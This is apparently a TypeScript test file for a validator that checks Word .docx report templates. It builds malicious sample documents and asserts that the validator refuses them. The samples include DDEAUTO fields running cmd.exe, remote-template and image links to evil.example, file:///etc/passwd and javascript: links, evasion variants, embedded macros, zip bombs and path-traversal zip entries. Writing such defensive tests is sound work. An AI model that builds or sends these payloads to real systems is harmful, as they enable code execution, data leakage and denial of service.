import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import PizZip from 'pizzip';
import { templateProblemWords } from '../../src/messages/template-problems';
import { fillTemplate } from '../../src/report/fill-template';
import { judgeTemplate } from '../../src/report/judge-template';
import { templateVariant } from '../../src/report/template-variant';
import { zipDirectory } from '../../src/zip/directory';
import { part } from '../support/sampled';
import { docxOf, filesOf, zipOf } from './docx-files';
import { nasomScope } from './nasom-scope';
import { standardTemplate } from './standard-template';

/** Templates that somebody made to do harm, or that do it by mistake. */

const PARAGRAPHS = [
  '{{ชื่อหน่วยงาน}} {{ปีงบประมาณ}}',
  '{{#ตัวชี้วัดย่อย}}{{#หมวด}}{{#ข้อ}}{{รหัสข้อ}}{{/ข้อ}}{{/หมวด}}{{/ตัวชี้วัดย่อย}}',
];
const sound = filesOf(docxOf(...PARAGRAPHS));
const DOCUMENT = sound['word/document.xml'] ?? '';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const withFiles = (files: Readonly<Record<string, string>>) => zipOf({ ...sound, ...files });
const withBody = (xml: string) =>
  withFiles({ 'word/document.xml': DOCUMENT.replace('</w:body>', `${xml}</w:body>`) });
const withRelation = (attributes: string, part = 'document') =>
  withFiles({
    [`word/_rels/${part}.xml.rels`]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" ${attributes}/></Relationships>`,
  });
const field = (...pieces: readonly string[]) =>
  withBody(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
      .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
      .join(
        '',
      )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );

function codes(bytes: Uint8Array): string[] {
  return judgeTemplate(bytes).problems.map(({ code }) => code);
}

test('the sound ones among them are sound', async () => {
  expect(codes(withFiles({}))).toEqual([]);
  expect(codes(await standardTemplate())).toEqual([]);
});

describe('what is fetched from elsewhere is refused', () => {
  test.each<[string, Uint8Array]>([
    [
      'a linked picture',
      withRelation(`Type="${OFFICE}/image" Target="https://evil.example/a.png" TargetMode="External"`),
    ],
    [
      'attributes in another order and in single quotes',
      withRelation(`TargetMode='External' Target='https://evil.example' Type='${OFFICE}/image'`),
    ],
    [
      'of a header',
      withRelation(
        `Type="${OFFICE}/image" Target="https://evil.example/a.png" TargetMode="External"`,
        'header1',
      ),
    ],
    [
      'an attached template',
      withRelation(
        `Type="${OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`,
        'settings',
      ),
    ],
    [
      'a template on somebody’s disk',
      withRelation(
        `Type="${OFFICE}/attachedTemplate" Target="file:///C:/Users/a/Normal.dotm" TargetMode="External"`,
        'settings',
      ),
    ],
    [
      'a frame',
      withRelation(
        `Type="${OFFICE}/frame" Target="https://evil.example" TargetMode="External"`,
        'webSettings',
      ),
    ],
    [
      'a mail merge',
      withRelation(
        `Type="${OFFICE}/mailMergeSource" Target="file:///a.xlsx" TargetMode="External"`,
        'settings',
      ),
    ],
    [
      'a link that is a program',
      withRelation(`Type="${OFFICE}/hyperlink" Target="javascript:alert(1)" TargetMode="External"`),
    ],
    [
      'a link into a network',
      withRelation(`Type="${OFFICE}/hyperlink" Target="\\\\evil\\share" TargetMode="External"`),
    ],
    [
      'a link to a file',
      withRelation(`Type="${OFFICE}/hyperlink" Target="file:///etc/passwd" TargetMode="External"`),
    ],
    [
      'one written in numbers',
      withRelation(`Type="${OFFICE}/hyperlink" Target="&#106;avascript:alert(1)" TargetMode="External"`),
    ],
    [
      'a VML picture by its address',
      withBody(
        '<w:p><w:r><w:pict><v:shape xmlns:v="v"><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      ),
    ],
  ])('%s', (_name, bytes) => {
    expect(codes(bytes)).toEqual(['outside-link']);
  });

  test.each([
    `Type="${OFFICE}/hyperlink" Target="https://www.nasom.example/a" TargetMode="External"`,
    `Type="${OFFICE}/hyperlink" Target="mailto:a@nasom.example" TargetMode="External"`,
    `Type="${OFFICE}/hyperlink" Target="%7B%7BURL%7D%7D" TargetMode="External"`,
    `Type="${OFFICE}/image" Target="media/a.png"`,
  ])('but not %s', (attributes) => {
    expect(codes(withRelation(attributes))).toEqual([]);
  });
});

describe('fields that fetch or run are refused', () => {
  test.each<[string, Uint8Array, string]>([
    ['INCLUDEPICTURE', field(' INCLUDEPICTURE "https://evil.example/a.png" \\d '), 'INCLUDEPICTURE'],
    ['in small letters', field('includetext "c:\\\\a.docx"'), 'INCLUDETEXT'],
    ['DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), 'DDEAUTO'],
    ['in pieces', field(' D', 'DE', 'AUTO cmd '), 'DDEAUTO'],
    ['in numbers', field('&#68;&#x44;E cmd'), 'DDE'],
    ['in CDATA', field('<![CDATA[DDE cmd]]>'), 'DDE'],
    ['LINK', field(' LINK Excel.Sheet.12 "a.xlsx" '), 'LINK'],
    ['a button for a macro', field(' MACROBUTTON Go กดที่นี่ '), 'MACROBUTTON'],
    [
      'in a simple field',
      withBody(
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
      ),
      'INCLUDEPICTURE',
    ],
    [
      'under another prefix',
      withBody(
        '<x:p xmlns:x="x"><x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText>DDE cmd</x:instrText></x:r></x:p>',
      ),
      'DDE',
    ],
    [
      'inside another field',
      field(
        ' IF 1 = 1 ',
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd',
      ),
      'DDE',
    ],
    [
      'in a footer',
      withFiles({
        'word/footer1.xml': '<w:ftr xmlns:w="w"><w:p><w:fldSimple w:instr="DDE a"/></w:p></w:ftr>',
      }),
      'DDE',
    ],
  ])('%s', (_name, bytes, word) => {
    expect(judgeTemplate(bytes).problems).toEqual([
      { code: 'fetching-field', tag: word, near: null, around: '' },
    ]);
  });

  test.each([
    ' PAGE ',
    ' NUMPAGES \\* THAIARABIC ',
    ' TOC \\o "1-3" \\h ',
    ' DATE \\@ "d MMMM bbbb" ',
    ' HYPERLINK "https://a.example" ',
    ' REF included ',
    ' SEQ ตาราง ',
  ])('but not %s', (code) => {
    expect(codes(field(code))).toEqual([]);
  });
});

describe('other files and programs inside are refused', () => {
  test.each<[string, Uint8Array, string]>([
    ['an OLE object', withFiles({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded-file'],
    ['a workbook', withFiles({ 'word/embeddings/Book.xlsx': 'PK' }), 'embedded-file'],
    [
      'an object element',
      withBody('<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Embed"/></w:object></w:r></w:p>'),
      'embedded-file',
    ],
    ['a web page as a chunk', withBody('<w:altChunk r:id="rId9" xmlns:r="r"/>'), 'embedded-file'],
    ['a package relation', withRelation(`Type="${OFFICE}/package" Target="../a/b.xlsx"`), 'embedded-file'],
    ['macros', withFiles({ 'word/vbaProject.bin': 'x' }), 'macros'],
    [
      'a document that says it has macros',
      withFiles({
        '[Content_Types].xml': (sound['[Content_Types].xml'] ?? '').replace(
          'openxmlformats-officedocument.wordprocessingml.document.main',
          'ms-word.document.macroEnabled.main',
        ),
      }),
      'macros',
    ],
    ['ActiveX', withFiles({ 'word/activeX/activeX1.xml': '<a/>' }), 'macros'],
    [
      'macros by relation',
      withRelation('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"'),
      'macros',
    ],
  ])('%s', (_name, bytes, code) => {
    expect(codes(bytes)).toContain(code);
  });

  test.each<[string, string]>([
    ['entities', `<!DOCTYPE w [<!ENTITY a "b">]>${DOCUMENT}`],
    ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${DOCUMENT}`],
    ['zero bytes', DOCUMENT.replace('<w:body>', '<w:body>\0')],
  ])('XML with %s is no .docx', (_name, xml) => {
    expect(codes(withFiles({ 'word/document.xml': xml }))).toEqual(['not-a-docx']);
  });
});

/** Milliseconds that this process was at work: by the clock others on the machine would count too. */
const worked = () => process.cpuUsage().user / 1000;

describe('what would become too large is refused before it is inflated', () => {
  const nothing = (bytes: number) => deflateRawSync(Buffer.alloc(bytes), { level: 1 });
  test.each<[string, () => Uint8Array]>([
    ['300 MB of nothing in 1.3 MB', () => handmade('word/media/a.png', nothing(300_000_000), 300_000_000)],
    [
      '9 MB of XML',
      () =>
        withFiles({
          'word/document.xml': DOCUMENT.replace('</w:body>', `${'<w:p/>'.repeat(1_500_001)}</w:body>`),
        }),
    ],
    [
      '401 entries',
      () =>
        withFiles(Object.fromEntries(Array.from({ length: 401 }, (_, i) => [`word/media/${i}.png`, 'x']))),
    ],
    ['folders in folders', () => withFiles({ [`${'a/'.repeat(9)}b.png`]: 'x' })],
  ])('%s', (_name, make) => {
    const bytes = make();
    const start = worked();
    expect(codes(bytes)).toEqual(['too-large']);
    expect(worked() - start).toBeLessThan(1_000);
  });

  test('a directory that lies about a size is found out, and nothing of it is kept', () => {
    const bytes = handmade('word/media/a.png', nothing(200_000_000), 1_000);
    const start = worked();
    expect(codes(bytes)).toEqual(['not-a-docx']);
    expect(worked() - start).toBeLessThan(1_000);
  });

  test('pictures that are large, and not packed more than pictures can be, are fine', () => {
    const noise = Uint8Array.from({ length: 900_000 }, (_, index) => Math.imul(index, 2_654_435_761) >>> 24);
    const zip = new PizZip(withFiles({}));
    zip.file('word/media/a.jpg', noise);
    expect(codes(zip.generate({ type: 'uint8array', compression: 'DEFLATE' }))).toEqual([]);
  });
});

describe('the directory of a zip', () => {
  test('is what PizZip finds', async () => {
    const bytes = await standardTemplate();
    expect(
      zipDirectory(bytes)
        ?.map(({ name }) => name)
        .sort(),
    ).toEqual(Object.keys(new PizZip(bytes).files).sort());
  });

  test('of two entries with one name, or with names that lead outside, is none', () => {
    for (const name of [
      'word/document.xml',
      'WORD/DOCUMENT.XML',
      '../a.xml',
      '/a.xml',
      'a\\b.xml',
      'word/../a.xml',
    ])
      expect(codes(handmade(name, deflateRawSync(Buffer.from('<a/>')), 4))).toEqual(['not-a-docx']);
  });

  test('of bytes that are cut or changed anywhere never throws', async () => {
    // The reader of XML complains aloud.
    jest.spyOn(console, 'error').mockImplementation(() => {});
    const bytes = docxOf(...PARAGRAPHS);
    fc.assert(
      fc.property(fc.nat(bytes.length - 1), fc.nat(255), fc.boolean(), (at, byte, cut) => {
        const changed = cut
          ? bytes.slice(0, at)
          : Uint8Array.from(bytes, (each, index) => (index === at ? byte : each));
        expect(() => judgeTemplate(changed)).not.toThrow();
      }),
      { numRuns: part(500) },
    );
  });
});

test('neither filling nor a variant opens what judging refuses', () => {
  const bytes = withFiles({ 'word/vbaProject.bin': 'x' });
  expect(() => fillTemplate(bytes, nasomScope())).toThrow('macros');
  expect(() => templateVariant(bytes, { draft: true })).toThrow('macros');
});

test.each(['too-large', 'outside-link', 'fetching-field', 'embedded-file', 'macros'] as const)(
  '%s is told with what to do',
  (code) => {
    const sentence = templateProblemWords({ code, tag: 'x', near: null, around: '' });
    expect(sentence).toMatch(/^(?:ไฟล์)?แม่แบบ.*ให้/);
    expect(sentence.length).toBeLessThan(300);
  },
);

/** The sound template with one more entry, whose directory says what it is told to say. */
function handmade(name: string, packed: Uint8Array, unpacked: number): Uint8Array {
  const base = Buffer.from(withFiles({}));
  const end = base.lastIndexOf('PK\u0005\u0006', undefined, 'latin1');
  const directory = base.readUInt32LE(end + 16);
  const local = Buffer.alloc(30 + name.length);
  local.write('PK\u0003\u0004', 'latin1');
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(unpacked, 22);
  local.writeUInt16LE(name.length, 26);
  local.write(name, 30, 'latin1');
  const central = Buffer.alloc(46 + name.length);
  central.write('PK\u0001\u0002', 'latin1');
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(unpacked, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(directory, 42);
  central.write(name, 46, 'latin1');
  const closing = Buffer.from(base.subarray(end));
  const count = closing.readUInt16LE(10) + 1;
  closing.writeUInt16LE(count, 8);
  closing.writeUInt16LE(count, 10);
  closing.writeUInt32LE(end - directory + central.length, 12);
  closing.writeUInt32LE(directory + local.length + packed.length, 16);
  return Buffer.concat([
    base.subarray(0, directory),
    local,
    packed,
    base.subarray(directory, end),
    central,
    closing,
  ]);
}
